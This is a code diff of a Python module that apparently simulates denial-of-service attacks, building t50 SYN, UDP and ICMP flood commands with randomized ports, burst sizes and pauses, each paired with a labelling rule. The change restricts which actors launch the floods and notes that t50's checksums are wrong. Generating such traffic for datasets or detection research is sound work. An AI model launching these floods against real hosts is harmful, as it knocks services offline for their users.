@@ -193,26 +193,26 @@ def syn_flood_ipv6(chance, world):
 
 @attack("dos", "SYNFlood", "t50", "syn")
 def t50_syn(chance, world):
-    aimed = aim(chance, world)
+    aimed = aim(chance, world, actors=flags_pass(world))
     port = chance.choice(_TCP_PORTS[aimed.target.name])
     return _bursts(chance, aimed, aimed.rule(port, "tcp"), "--protocol", "TCP", "-S", "--dport", port)
 
 
 @attack("dos", "UDPFlood", "t50", "udp")
 def t50_udp(chance, world):
-    aimed = aim(chance, world)
+    aimed = aim(chance, world, actors=flags_pass(world))
     port = chance.choice((53, 123, 5000, chance.randint(1024, 65000)))
     return _bursts(chance, aimed, aimed.rule(port, "udp"), "--protocol", "UDP", "--dport", port)
 
 
 @attack("dos", "ICMPFlood", "t50", "icmp")
 def t50_icmp(chance, world):
-    aimed = aim(chance, world)
+    aimed = aim(chance, world, actors=flags_pass(world))
     return _bursts(chance, aimed, aimed.rule(proto="icmp"), "--protocol", "ICMP")
 
 
 def _bursts(chance, aimed, rule, *options):
-    """t50 knows no rate: short bursts with pauses."""
+    """t50 knows no rate: short bursts with pauses. Its checksums are wrong."""
     burst = chance.randint(100, 600)
     pause = round(max(0.2, burst / 1300) + chance.uniform(0, 0.5), 2)
     times = chance.randint(10, 25)
